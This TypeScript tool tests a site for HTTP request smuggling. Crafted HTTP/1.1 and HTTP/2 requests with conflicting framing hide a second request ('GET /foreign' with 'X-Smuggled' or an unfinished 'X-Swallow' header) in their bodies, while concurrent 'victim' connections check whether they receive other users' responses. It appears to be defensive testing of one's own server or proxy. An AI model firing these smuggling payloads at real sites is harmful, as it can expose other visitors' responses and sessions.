/**
 * Visitors who do not know each other. One sends requests that somebody wrote with care, and meanwhile others ask for
 * pages of their own on other connections and compare every answer with what they asked. For each case of CASES a line
 * of JSON: { "name", "tries", "asked", "wrong": [what a visitor got in place of his own answer, at most three] }.
 *
 * usage: strangers.ts SITE CASES ROUNDS      SITE and CASES in JSON, types `Site` and `Case`
 */
import http2 from "node:http2";
import https from "node:https";
import { setTimeout as sleep } from "node:timers/promises";
import tls from "node:tls";

export interface Site {
  readonly hostname: string;
  /** A unix socket, or a host and its port, that speaks TLS. */
  readonly at: { readonly path: string } | { readonly host: string; readonly port: number };
  /** PEM of a client certificate and its key. */
  readonly client: { readonly cert: string; readonly key: string };
}

/** A request that may harm other visitors. */
export interface Case {
  readonly name: string;
  readonly protocol: "h1" | "h2";
  readonly method: string;
  readonly path: string;
  readonly headers?: Readonly<Record<string, string>>;
  /** How the request says where its body ends; "both" and "none" (bytes after a request without a body) only with h1. */
  readonly framing: "none" | "content-length" | "chunked" | "both";
  /**
   * `swallow`: makes the next request a header of its own; `whole`: stands before the next request; `large`: many of
   * these, more than any buffer. @default `swallow` and `whole` in turn
   */
  readonly body?: "swallow" | "whole" | "large" | "nothing";
  /** How much of the body is sent; the connection then ends. @default all of it */
  readonly cutOffAfter?: number;
  /** Sends the body only when the head has been answered. */
  readonly waits?: boolean;
}

const VICTIMS = 4;
/** How long, and how often at least, each asks when the request has been answered: the application may answer it once more. */
const AFTERWARDS_MS = 40;
const VISITS_AFTERWARDS = 3;
/** An answer that nobody waits for any longer; the attacker's own is not what is looked at. */
const ATTACK_LIMIT_MS = 250;

const [siteText, casesText, roundsText] = process.argv.slice(2);
if (siteText === undefined || casesText === undefined || roundsText === undefined)
  throw new Error("usage: strangers.ts SITE CASES ROUNDS");
const site = JSON.parse(siteText) as Site;
const rounds = Number(roundsText);
const connection = { ...site.at, ...site.client, servername: site.hostname, rejectUnauthorized: false };
const kept = new https.Agent({ keepAlive: true, maxSockets: VICTIMS });
let asked = 0;

async function main(): Promise<void> {
  for (const one of JSON.parse(casesText as string) as Case[]) {
    const wrong: string[] = [];
    const before = asked;
    for (let round = 0; round < rounds; round++) {
      const body = one.body ?? (round % 2 === 0 ? "swallow" : "whole");
      wrong.push(...(await tryOnce({ ...one, body })));
    }
    const report = { name: one.name, tries: rounds, asked: asked - before, wrong: wrong.slice(0, 3) };
    process.stdout.write(`${JSON.stringify(report)}\n`);
  }
  kept.destroy();
}

/** What visitors got wrong while and after one such request. */
async function tryOnce(one: Case): Promise<string[]> {
  let isAnswered = false;
  let over = false;
  const wrong: string[] = [];
  const visit = async () => {
    for (let afterwards = 0; !over || afterwards < VISITS_AFTERWARDS; afterwards += isAnswered ? 1 : 0) {
      const answer = await beVictim();
      if (answer !== undefined) wrong.push(answer);
    }
  };
  const victims = Promise.all(Array.from({ length: VICTIMS }, visit));
  const end = await (one.protocol === "h1" ? attackH1(one) : attackH2(one));
  isAnswered = true;
  await sleep(AFTERWARDS_MS);
  over = true;
  await victims;
  end();
  return wrong;
}

/** Asks for a page that is one's own; what was wrong with the answer. */
function beVictim(): Promise<string | undefined> {
  const id = `${(asked += 1)}`;
  const path = `/victim?id=${id}`;
  const headers = { host: site.hostname, cookie: `session=secret-${id}` };
  const options = {
    ...connection,
    socketPath: "path" in site.at ? site.at.path : undefined,
    path,
    headers,
    agent: kept,
  };
  return new Promise((resolve) => {
    const call = https.request({ ...options, timeout: 10_000 }, (response) => {
      let text = "";
      response.setEncoding("utf8").on("data", (chunk: string) => (text += chunk));
      response.on("end", () =>
        resolve(isOwn(text, path, id) ? undefined : `${response.statusCode} ${text.slice(0, 300)}`),
      );
      response.on("error", (error) => resolve(`${error}`));
    });
    call.on("timeout", () => call.destroy(new Error("no answer within 10 s")));
    call.on("error", (error) => resolve(`${error}`));
    call.end();
  });
}

function isOwn(text: string, path: string, id: string): boolean {
  try {
    const answer = JSON.parse(text);
    const { headers } = answer;
    return (
      answer.method === "GET" &&
      answer.path === path &&
      headers.cookie === `session=secret-${id}` &&
      !headers["x-swallow"]
    );
  } catch {
    return false;
  }
}

/** Resolves when the request has been answered, or nobody waits any longer; what then ends the connection. */
async function attackH1(one: Case): Promise<() => void> {
  const socket = tls.connect({ ...connection, ALPNProtocols: ["http/1.1"] });
  socket.on("error", () => undefined);
  await new Promise((resolve) => socket.once("secureConnect", resolve).once("close", resolve));
  const answered = () =>
    new Promise<void>((resolve) => {
      socket.once("data", () => resolve()).once("close", () => resolve());
      setTimeout(resolve, ATTACK_LIMIT_MS);
    });
  const first = answered();
  const content = bodyOf(one);
  const body = one.framing === "chunked" || one.framing === "both" ? chunked(content) : content;
  if (one.waits) {
    socket.write(headOf(one, content));
    await first;
    if (!socket.destroyed) socket.write(body);
    await answered();
  } else {
    socket.write(headOf(one, content) + body.slice(0, one.cutOffAfter));
    if (one.cutOffAfter !== undefined) setTimeout(() => socket.destroy(), 30);
    await first;
  }
  return () => socket.destroy();
}

function headOf({ method, path, headers, framing }: Case, content: string): string {
  const lines = Object.entries({ Host: site.hostname, ...headers }).map(([name, value]) => `${name}: ${value}`);
  if (framing === "content-length" || framing === "both") lines.push(`Content-Length: ${content.length}`);
  if (framing === "chunked" || framing === "both") lines.push("Transfer-Encoding: chunked");
  return `${method} ${path} HTTP/1.1\r\n${lines.join("\r\n")}\r\n\r\n`;
}

async function attackH2(one: Case): Promise<() => void> {
  const { method, path, headers, framing } = one;
  const socket = tls.connect({ ...connection, ALPNProtocols: ["h2"] });
  const session = http2.connect(`https://${site.hostname}`, { createConnection: () => socket });
  session.on("error", () => undefined);
  const content = bodyOf(one);
  const length = framing === "content-length" ? { "content-length": `${content.length}` } : {};
  const stream = session.request({ ":method": method, ":path": path, ...headers, ...length }, { endStream: false });
  stream.on("error", () => undefined);
  const answered = new Promise<void>((resolve) => {
    stream.once("response", () => resolve()).once("close", () => resolve());
    setTimeout(resolve, ATTACK_LIMIT_MS);
  });
  stream.resume();
  if (one.cutOffAfter === undefined) stream.end(content);
  else
    stream.write(content.slice(0, one.cutOffAfter), () =>
      setTimeout(() => stream.close(http2.constants.NGHTTP2_CANCEL), 30),
    );
  await answered;
  return () => session.destroy();
}

function bodyOf({ body = "nothing" }: Case): string {
  const head = `GET /foreign HTTP/1.1\r\nHost: ${site.hostname}\r\nX-Smuggled: 1\r\n`;
  const bodies = {
    swallow: `${head}X-Swallow: `,
    whole: `${head}\r\n`,
    large: `${head}\r\n`.repeat(4000),
    nothing: "",
  };
  return bodies[body];
}

function chunked(content: string): string {
  return `${content.length.toString(16)}\r\n${content}\r\n0\r\n\r\n`;
}

void main();
